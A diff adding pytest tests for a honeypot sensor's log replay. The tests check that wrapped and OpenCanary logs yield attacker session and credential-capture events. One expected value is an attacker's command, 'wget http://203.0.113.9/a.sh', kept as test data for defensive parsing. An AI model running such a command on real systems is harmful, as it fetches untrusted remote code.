@@ -1,0 +1,48 @@
+"""Logs of others as they come: wrapped by what shipped them, or from versions that wrote less."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from decnet.config import Settings
+from decnet.sensors.replay import iter_events
+
+CASES = Path(__file__).parent.parent / "fixtures" / "cases"
+
+
+@pytest.mark.parametrize("log", sorted((CASES / "16-wrapped").glob("*.json")), ids=lambda p: p.stem)
+def test_16_a_wrapped_log_gives_what_the_log_itself_gives(log: Path, tmp_path: Path) -> None:
+    refused: list[str] = []
+    events = list(iter_events(log, Settings(data_dir=tmp_path), refused))
+    (ended,) = [e.payload for e in events if e.topic == "attacker.session.ended"]
+    assert (ended["sensor_session"], ended["attacker_ip"], ended["end_reason"]) == (
+        "a8a800000001",
+        "192.0.2.7",
+        "closed",
+    )
+    assert [c["command_text"] for c in ended["commands"]] == ["wget http://203.0.113.9/a.sh"]
+    assert ended["commands"][0]["ts"] == 1772359202.0
+    assert refused == []
+
+
+def test_10_versions_without_utc_time_wrote_utc_as_local_time(tmp_path: Path) -> None:
+    refused: list[str] = []
+    events = list(iter_events(CASES / "10-opencanary-local-time.txt", Settings(data_dir=tmp_path), refused))
+    ended = [e.payload for e in events if e.topic == "attacker.session.ended"]
+    assert sorted((p["service"], p["started_at"]) for p in ended) == [
+        ("ftp", 1772359200.000001), ("portscan", 1772359200.000001), ("ssh", 1772359200.000001),
+    ]  # fmt: skip
+    captured = [e.payload for e in events if e.topic == "credential.captured"]
+    assert sorted((p["service"], p["username"]) for p in captured) == [("ftp", "a"), ("ssh", "admin")]
+    assert refused == []
+
+
+def test_17_opencanary_through_syslog(tmp_path: Path) -> None:
+    refused: list[str] = []
+    events = list(iter_events(CASES / "17-opencanary-syslog.txt", Settings(data_dir=tmp_path), refused))
+    (ended,) = [e.payload for e in events if e.topic == "attacker.session.ended"]
+    assert (ended["decky_id"], ended["service"], ended["auth"]["usernames"]) == ("oc-1", "ssh", ["admin"])
+    assert [e.payload["username"] for e in events if e.topic == "credential.captured"][:1] == ["admin"]
+    assert refused == []
